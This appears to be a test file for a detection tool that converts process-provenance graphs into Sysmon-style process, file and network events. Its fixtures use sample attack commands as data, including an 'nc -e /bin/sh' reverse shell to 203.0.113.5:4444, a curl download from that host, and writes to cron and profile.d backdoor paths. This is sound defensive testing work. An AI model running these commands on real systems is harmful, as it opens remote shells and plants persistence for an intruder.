// SigmaEventCollector on small hand-written graphs in SPADE's shapes (fed in capture order with the
// attributor, as pass 1 does): which records become which Sysmon-for-Linux events, with which fields.
import { describe, expect, it } from 'vitest';
import { AutoAttributor } from '../../src/attribution/auto.js';
import { type DerivedEvent, SigmaEventCollector } from '../../src/detection/events.js';
import { parseFlatEvent, sigmaEventRecord } from '../../src/detection/flat-events.js';
import { Graph, model, probeSock, proc, service, sock } from '../support/graph.js';

const A = '4026532001';
const shop = model(service('adservice', { selector: { app: 'adservice' }, clusterIP: '10.108.1.16', ports: [{ port: 9555 }] }));

function derive(g: Graph): DerivedEvent[] {
  const attributor = new AutoAttributor(shop);
  const collector = new SigmaEventCollector('cap');
  g.replay(attributor);
  g.replay(collector);
  return [...collector.finish(attributor.finish(), (v) => `id${v}`)];
}

const bash = { exe: '/bin/bash', 'command line': 'bash -i', cwd: '/', uid: '0' };

describe('process_creation', () => {
  it('fork then execve: one event for the new image, its parent the forking process', () => {
    const g = new Graph()
      .process('bash', proc(10, A, bash))
      .process('child', proc(11, A, { ...bash, ppid: '10' }))
      .edge('WasTriggeredBy', 'child', 'bash', { operation: 'clone', time: '4.0' })
      .process('curl', proc(11, A, { exe: '/usr/bin/curl', 'command line': 'curl -o /tmp/x http://203.0.113.5/x', cwd: '/tmp', uid: '1000', ppid: '10' }))
      .edge('WasTriggeredBy', 'curl', 'child', { operation: 'execve', time: '5.25' });
    const events = derive(g).filter((e) => e.category === 'process_creation');
    // bash ran before the capture (no edge made it): reported once; the clone child is not a process creation.
    expect(events.map((e) => e.fields.Image)).toEqual(['/bin/bash', '/usr/bin/curl']);
    const curl = events[1]!;
    expect({ ...curl.fields }).toEqual({
      Image: '/usr/bin/curl',
      CommandLine: 'curl -o /tmp/x http://203.0.113.5/x',
      CurrentDirectory: '/tmp',
      ProcessId: '11',
      ParentProcessId: '10',
      ParentImage: '/bin/bash',
      ParentCommandLine: 'bash -i',
      User: '1000',
    });
    expect(curl).toMatchObject({ time: '5.25', edge: 1, process: g.vertexOf('curl'), processId: `id${g.vertexOf('curl')}`, artifact: -1, capture: 'cap' });
    expect(events[0]!.fields.User).toBe('root');
  });

  it('an exec chain (sh -c "exec foo"): the parent stays the process that forked, not the previous image', () => {
    const g = new Graph()
      .process('java', proc(20, A, { exe: '/opt/java/openjdk/bin/java', 'command line': 'java -jar ad.jar' }))
      .process('clone', proc(21, A, { exe: '/opt/java/openjdk/bin/java', 'command line': 'java -jar ad.jar', ppid: '20' }))
      .edge('WasTriggeredBy', 'clone', 'java', { operation: 'clone', time: '1' })
      .process('sh', proc(21, A, { exe: '/bin/sh', 'command line': '/bin/sh -c exec id', ppid: '20' }))
      .edge('WasTriggeredBy', 'sh', 'clone', { operation: 'execve', time: '2' })
      .process('id', proc(21, A, { exe: '/usr/bin/id', 'command line': 'id', ppid: '20' }))
      .edge('WasTriggeredBy', 'id', 'sh', { operation: 'execve', time: '3' });
    const events = derive(g).filter((e) => e.edge !== -1);
    expect(events.map((e) => [e.fields.Image, e.fields.ParentImage, e.fields.ParentProcessId])).toEqual([
      ['/bin/sh', '/opt/java/openjdk/bin/java', '20'],
      ['/usr/bin/id', '/opt/java/openjdk/bin/java', '20'],
    ]);
  });

  it('without a fork edge the parent comes from ppid: the newest vertex of that pid at the execve', () => {
    const g = new Graph()
      .process('old', proc(30, A, { exe: '/bin/sh', 'command line': 'sh' }))
      .process('new', proc(30, A, { exe: '/bin/dash', 'command line': 'dash' }))
      .edge('WasTriggeredBy', 'new', 'old', { operation: 'execve', time: '1' })
      .process('runc', proc(31, A, { exe: '/', ppid: '30' }))
      .process('probe', proc(31, A, { exe: '/bin/grpc_health_probe', 'command line': '/bin/grpc_health_probe -addr=:9555', ppid: '30' }))
      .edge('WasTriggeredBy', 'probe', 'runc', { operation: 'execve', time: '2' });
    const probe = derive(g).find((e) => e.fields.ProcessId === '31')!;
    expect([probe.fields.ParentProcessId, probe.fields.ParentImage, probe.fields.ParentCommandLine]).toEqual(['30', '/bin/dash', 'dash']);
  });

  it('threads and setuid copies are not process creations; an unknown parent leaves the parent fields out', () => {
    const g = new Graph()
      .process('main', proc(40, A, { exe: '/usr/bin/node', 'command line': 'node server.js', ppid: '1' }))
      .process('thread', proc(41, A, { exe: '/usr/bin/node', 'command line': 'node server.js', ppid: '40' }))
      .process('setuid', proc(40, A, { exe: '/usr/bin/node', 'command line': 'node server.js', uid: '1000' }))
      .edge('WasTriggeredBy', 'setuid', 'main', { operation: 'setuid', time: '1' })
      .process('noexe', proc(42, A, { name: 'kworker' }));
    const events = derive(g);
    expect(events).toHaveLength(1);
    expect(events[0]!.process).toBe(g.vertexOf('main'));
    expect(events[0]!.fields.ParentImage).toBeUndefined();
    expect(events[0]!.fields.ParentProcessId).toBe('1');
  });

  it('a uid split out into an Agent vertex (WasControlledBy) is the User', () => {
    const g = new Graph().process('p', { pid: '50', exe: '/bin/ls', 'command line': 'ls' });
    const attributor = new AutoAttributor(shop);
    const collector = new SigmaEventCollector('cap');
    g.replay(collector);
    collector.otherVertex(99, { uid: '0', euid: '0' });
    collector.edge('WasControlledBy', g.vertexOf('p'), 99, { operation: 'unknown', time: '1' });
    const [event] = [...collector.finish(attributor.finish(), String)];
    expect(event!.fields.User).toBe('root');
  });
});

describe('file_event', () => {
  it('writes, creates and renames onto a file: one event per (process, file), at the first write', () => {
    const g = new Graph()
      .process('tee', proc(60, A, { exe: '/usr/bin/tee', 'command line': 'tee /etc/cron.d/x' }))
      .artifact('cron', { subtype: 'file', path: '/etc/cron.d/x' })
      .artifact('dir', { subtype: 'directory', path: '/etc/cron.d' })
      .artifact('mem', { subtype: 'memory', 'memory address': '7f00', tgid: '60' })
      .artifact('moved', { subtype: 'file', path: '/etc/profile.d/evil.sh' })
      .edge('WasGeneratedBy', 'cron', 'tee', { operation: 'open', flags: 'O_WRONLY|O_CREAT', time: '7' })
      .edge('WasGeneratedBy', 'cron', 'tee', { operation: 'open', time: '8' })
      .edge('WasGeneratedBy', 'cron', 'tee', { operation: 'write', time: '9' })
      .edge('WasGeneratedBy', 'cron', 'tee', { operation: 'close', time: '10' })
      .edge('Used', 'tee', 'cron', { operation: 'read', time: '11' })
      .edge('WasGeneratedBy', 'dir', 'tee', { operation: 'create', time: '12' })
      .edge('WasGeneratedBy', 'mem', 'tee', { operation: 'mmap (write)', time: '13' })
      .edge('WasGeneratedBy', 'moved', 'tee', { operation: 'rename (write)', time: '14' });
    const files = derive(g).filter((e) => e.category === 'file_event');
    expect(files.map((e) => [e.fields.TargetFilename, e.time])).toEqual([
      ['/etc/cron.d/x', '7'],
      ['/etc/profile.d/evil.sh', '14'],
    ]);
    expect({ ...files[0]!.fields }).toEqual({ TargetFilename: '/etc/cron.d/x', Image: '/usr/bin/tee', ProcessId: '60' });
    expect(files[0]!.artifact).toBe(g.vertexOf('cron'));
  });
});

describe('network_connection', () => {
  it('connect (Initiated true) and accept (Initiated false, Source = the peer); IPv4-mapped addresses folded', () => {
    const mapped = '0000:0000:0000:0000:0000:FFFF:CB00:7105'; // ::ffff:203.0.113.5
    const g = new Graph()
      .process('nc', proc(70, A, { exe: '/usr/bin/nc', 'command line': 'nc 203.0.113.5 4444' }))
      .artifact('out', sock(A, ['10.244.1.7', 45678], [mapped, 4444]))
      .edge('WasGeneratedBy', 'out', 'nc', { operation: 'connect', time: '20' })
      .edge('WasGeneratedBy', 'out', 'nc', { operation: 'connect', time: '21' })
      .artifact('in', sock(A, ['0.0.0.0', 9555], ['10.244.1.9', 5555]))
      .edge('Used', 'nc', 'in', { operation: 'accept', time: '22' })
      .edge('Used', 'nc', 'in', { operation: 'recv', time: '23' });
    const net = derive(g).filter((e) => e.category === 'network_connection');
    expect(net.map((e) => ({ ...e.fields }))).toEqual([
      { Initiated: 'true', SourceIp: '10.244.1.7', SourcePort: '45678', DestinationIp: '203.0.113.5', DestinationPort: '4444', Protocol: 'tcp', Image: '/usr/bin/nc', ProcessId: '70' },
      { Initiated: 'false', SourceIp: '10.244.1.9', SourcePort: '5555', DestinationIp: '0.0.0.0', DestinationPort: '9555', Protocol: 'tcp', Image: '/usr/bin/nc', ProcessId: '70' },
    ]);
  });
});

describe('Tetragon’s model: one vertex per exec image, linked to its parent image', () => {
  /** A process as the Tetragon reader writes it (no uid without enableProcessCred: euid only). */
  const tp = (pid: number, ppid: number, exe: string, cmd: string, flags: string, extra: Record<string, string> = {}) => ({
    pid: String(pid),
    ppid: String(ppid),
    exe,
    'command line': cmd,
    cwd: '/app',
    euid: '1000',
    node: 'kind-worker',
    'exec flags': flags,
    'k8s pod': 'adservice-6b7c8d9e0f-abcde',
    'k8s namespace': 'default',
    'k8s pod labels': 'app=adservice',
    ...extra,
  });

  it('fork + exec (clone edge from an exec image): one event, the parent is the image it was cloned from', () => {
    const g = new Graph()
      .process('java', tp(20, 10, '/opt/java/openjdk/bin/java', '/opt/java/openjdk/bin/java -jar ad.jar', 'execve rootcwd clone'))
      .process('sh', tp(21, 20, '/bin/sh', '/bin/sh -c "nc -e /bin/sh 203.0.113.5 4444"', 'execve clone', { 'start time': '1701959403.5' }))
      .edge('WasTriggeredBy', 'sh', 'java', { operation: 'clone', time: '1701959403.5' });
    const events = derive(g).filter((e) => e.category === 'process_creation');
    // java's parent never appeared: it ran before, reported once (as for SPADE).
    expect(events.map((e) => [e.fields.Image, e.edge])).toEqual([
      ['/opt/java/openjdk/bin/java', -1],
      ['/bin/sh', 0],
    ]);
    expect({ ...events[1]!.fields }).toEqual({
      Image: '/bin/sh',
      CommandLine: '/bin/sh -c "nc -e /bin/sh 203.0.113.5 4444"',
      CurrentDirectory: '/app',
      ProcessId: '21',
      ParentProcessId: '20',
      ParentImage: '/opt/java/openjdk/bin/java',
      ParentCommandLine: '/opt/java/openjdk/bin/java -jar ad.jar',
      User: '1000',
    });
    expect(events[1]!).toMatchObject({ time: '1701959403.5', attribution: { svc: 'adservice', kind: 'pod' } });
  });

  it('exec without fork (execve edge, same pid): the parent stays the image that forked the pid', () => {
    const g = new Graph()
      .process('java', tp(20, 10, '/opt/java/openjdk/bin/java', 'java', 'procFS auid rootcwd'))
      .process('bash', tp(21, 20, '/bin/bash', 'bash -c curl x', 'execve clone'))
      .edge('WasTriggeredBy', 'bash', 'java', { operation: 'clone', time: '2' })
      .process('curl', tp(21, 20, '/usr/bin/curl', 'curl x', 'execve'))
      .edge('WasTriggeredBy', 'curl', 'bash', { operation: 'execve', time: '3' });
    const events = derive(g).filter((e) => e.edge !== -1);
    expect(events.map((e) => [e.fields.Image, e.fields.ParentImage, e.fields.ParentProcessId])).toEqual([
      ['/bin/bash', '/opt/java/openjdk/bin/java', '20'],
      ['/usr/bin/curl', '/opt/java/openjdk/bin/java', '20'],
    ]);
  });

  it('a forked child that never execs is none; a process found in /proc (procFS) ran before the capture: one event', () => {
    const g = new Graph()
      .process('systemd', tp(1, 0, '/usr/lib/systemd/systemd', '/usr/lib/systemd/systemd --system', 'procFS auid rootcwd'))
      .process('kubelet', tp(700, 1, '/usr/bin/kubelet', '/usr/bin/kubelet --config=/var/lib/kubelet/config.yaml', 'procFS auid rootcwd'))
      .edge('WasTriggeredBy', 'kubelet', 'systemd', { operation: 'clone', time: '0.7' })
      .process('redis', tp(30, 700, '/usr/local/bin/redis-server', '/usr/local/bin/redis-server *:6379', 'execve clone'))
      .edge('WasTriggeredBy', 'redis', 'kubelet', { operation: 'clone', time: '5' })
      .process('bgsave', tp(31, 30, '/usr/local/bin/redis-server', '/usr/local/bin/redis-server *:6379', 'clone'))
      .edge('WasTriggeredBy', 'bgsave', 'redis', { operation: 'clone', time: '6' });
    const events = derive(g).filter((e) => e.category === 'process_creation');
    expect(events.map((e) => [e.fields.Image, e.fields.ParentImage ?? ''])).toEqual([
      ['/usr/lib/systemd/systemd', ''],
      ['/usr/bin/kubelet', '/usr/lib/systemd/systemd'],
      ['/usr/local/bin/redis-server', '/usr/bin/kubelet'],
    ]);
  });

  it('a security_file_permission write and a tcp_connect: file_event and network_connection, User from the euid', () => {
    const g = new Graph()
      .process('tee', tp(40, 21, '/usr/bin/tee', '/usr/bin/tee /etc/cron.d/backdoor', 'execve clone'))
      .artifact('cron', { subtype: 'file', path: '/etc/cron.d/backdoor', permissions: '0644' })
      .edge('WasGeneratedBy', 'cron', 'tee', { operation: 'write', time: '7' })
      .artifact('out', { subtype: 'network socket', protocol: 'tcp', 'local address': '10.244.1.10', 'local port': '45678', 'remote address': '203.0.113.5', 'remote port': '4444' })
      .edge('WasGeneratedBy', 'out', 'tee', { operation: 'connect', time: '8' });
    const events = derive(g).filter((e) => e.category !== 'process_creation');
    expect(events.map((e) => ({ ...e.fields }))).toEqual([
      { TargetFilename: '/etc/cron.d/backdoor', Image: '/usr/bin/tee', ProcessId: '40', User: '1000' },
      { Initiated: 'true', SourceIp: '10.244.1.10', SourcePort: '45678', DestinationIp: '203.0.113.5', DestinationPort: '4444', Protocol: 'tcp', Image: '/usr/bin/tee', ProcessId: '40', User: '1000' },
    ]);
  });
});

describe('events carry their process attribution, in capture order', () => {
  it('a process in the adservice namespace: every event of it says adservice', () => {
    const g = new Graph()
      .process('probe', proc(80, A, { exe: '/bin/grpc_health_probe', 'command line': '/bin/grpc_health_probe -addr=:9555' }))
      .artifact('ps', probeSock(A, 9555))
      .edge('WasGeneratedBy', 'ps', 'probe', { operation: 'connect', time: '30' })
      .process('sh', proc(81, '-1', { exe: '/bin/sh', 'command line': 'sh' }))
      .artifact('f', { subtype: 'file', path: '/tmp/a' })
      .edge('WasGeneratedBy', 'f', 'sh', { operation: 'write', time: '31' });
    const events = derive(g);
    expect(events.map((e) => [e.category, e.attribution.svc, e.attribution.kind])).toEqual([
      ['process_creation', 'adservice', 'port'],
      ['network_connection', 'adservice', 'port'],
      ['process_creation', '', ''],
      ['file_event', '', ''],
    ]);
    expect(events.map((e) => e.seq)).toEqual([...events.map((e) => e.seq)].sort((a, b) => a - b));
  });
});

describe('sigma_events.ndjson (--write-events) read back by --events', () => {
  it('gives the same fields, and fills the alert columns from the meta keys', () => {
    const g = new Graph()
      .process('probe', proc(80, A, { exe: '/bin/grpc_health_probe', 'command line': '/bin/grpc_health_probe -addr=:9555', uid: '0' }))
      .artifact('ps', probeSock(A, 9555))
      .edge('WasGeneratedBy', 'ps', 'probe', { operation: 'connect', time: '30' });
    for (const e of derive(g)) {
      const back = parseFlatEvent(JSON.stringify(sigmaEventRecord(e)), 'sigma_events.ndjson', 7);
      expect({ ...back.event.fields }).toEqual({ ...e.fields });
      expect(back.context).toMatchObject({ category: e.category, capture: 'cap', time: e.time, svc: 'adservice', attribution: 'port', processId: e.processId, eventLine: 7 });
    }
  });
});
